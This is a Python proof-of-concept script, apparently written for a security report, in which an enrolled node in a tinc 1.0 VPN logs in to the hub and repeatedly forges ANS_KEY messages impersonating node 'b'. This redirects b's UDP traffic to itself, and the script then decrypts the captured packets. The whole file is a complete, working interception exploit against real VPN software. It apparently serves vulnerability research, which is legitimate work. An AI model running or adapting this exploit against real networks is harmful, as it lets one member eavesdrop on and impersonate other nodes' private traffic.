#!/usr/bin/env python3
"""Hostile-node check (section 4 of REPORT.md): an enrolled node C speaks the tinc 1.0 meta
protocol to the hub itself and sends a forged "ANS_KEY b h1 <key> ... <C's address>".
Run inside C's namespace:  evil.py KEYDIR HUB_PUBFILE HUB_IP MY_IP SECONDS
Prints how many UDP datagrams meant for b arrived at C and what they decrypt to."""
import os
import socket
import sys
import time

from cryptography.hazmat.primitives import hashes, hmac, serialization
from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

KEYDIR, HUB_PUB, HUB_IP, MY_IP, SECONDS = sys.argv[1:6]
UDP_PORT = 6555
NID_AES256_CFB, NID_SHA256, NID_AES256_CBC = 429, 672, 427

priv = serialization.load_pem_private_key(open(os.path.join(KEYDIR, "rsa_key.priv"), "rb").read(), None)
pub = serialization.load_pem_public_key(open(HUB_PUB, "rb").read())
pn, hn = priv.private_numbers(), pub.public_numbers()
LEN = (hn.n.bit_length() + 7) // 8

sock = socket.create_connection((HUB_IP, 655), timeout=5)
enc = dec = None
buf = b""


def send(line):
    data = (line + "\n").encode()
    sock.sendall(enc.update(data) if enc else data)


def recv_line():
    global buf
    while b"\n" not in buf:
        chunk = sock.recv(65536)
        if not chunk:
            raise SystemExit("hub closed the connection")
        buf += dec.update(chunk) if dec else chunk
    line, buf = buf.split(b"\n", 1)
    return line.decode()


send("0 c 17")
hub_id = recv_line()
hub_metakey = recv_line().split()
# hub's meta key -> our inbound stream cipher; the bytes already buffered are still ciphertext
hk = pow(int(hub_metakey[5], 16), pn.d, pn.public_numbers.n).to_bytes(LEN, "big")
dec = Cipher(algorithms.AES(hk[LEN - 32:]), modes.CFB(hk[LEN - 48:LEN - 32])).decryptor()
buf = dec.update(buf)
mk = bytearray(os.urandom(LEN))
mk[0] &= 0x7F
ct = pow(int.from_bytes(bytes(mk), "big"), hn.e, hn.n).to_bytes(LEN, "big")
send("1 %d %d 0 0 %s" % (NID_AES256_CFB, NID_SHA256, ct.hex()))
enc = Cipher(algorithms.AES(bytes(mk[LEN - 32:])), modes.CFB(bytes(mk[LEN - 48:LEN - 32]))).encryptor()
send("2 " + os.urandom(LEN).hex())
state = {}
while "ack" not in state:
    parts = recv_line().split()
    if parts[0] == "2":  # hub's challenge
        h = hashes.Hash(hashes.SHA256())
        h.update(bytes.fromhex(parts[1]))
        send("3 " + h.finalize().hex())
    elif parts[0] == "3":  # hub's reply to our challenge (not checked here)
        send("4 655 10 0")
    elif parts[0] == "4":
        state["ack"] = True
print("meta connection active:", hub_id, flush=True)

udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.bind((MY_IP, UDP_PORT))
udp.settimeout(0.2)
key = os.urandom(48)  # aes-256-cbc key + iv, as tinc expects for the default Cipher
forged = "16 b h1 %s %d %d 4 0 %s %d" % (key.hex(), NID_AES256_CBC, NID_SHA256, MY_IP, UDP_PORT)
sock.settimeout(0.05)
got, icmp = 0, []
end = time.time() + float(SECONDS)
last_forge = 0
while time.time() < end:
    if time.time() - last_forge > 1:
        send(forged)
        last_forge = time.time()
    try:  # answer PINGs so the hub keeps us
        chunk = sock.recv(65536)
        buf += dec.update(chunk)
        while b"\n" in buf:
            line, buf = buf.split(b"\n", 1)
            if line.split()[:1] == [b"8"]:
                send("9")
    except socket.timeout:
        pass
    try:
        data, peer = udp.recvfrom(65536)
    except socket.timeout:
        continue
    got += 1
    body, mac = data[:-4], data[-4:]
    m = hmac.HMAC(key, hashes.SHA256())
    m.update(body)
    ok = m.finalize()[:4] == mac
    d = Cipher(algorithms.AES(key[:32]), modes.CBC(key[32:])).decryptor()
    plain = d.update(body) + d.finalize()
    ip = plain[4 + 14:]
    if ok and len(ip) >= 20 and ip[9] == 1:
        icmp.append("%s->%s icmp type %d" % (socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]), ip[20]))
print("datagrams for b received by c: %d; MAC ok + ICMP decoded: %d; first: %s"
      % (got, len(icmp), icmp[:3]), flush=True)
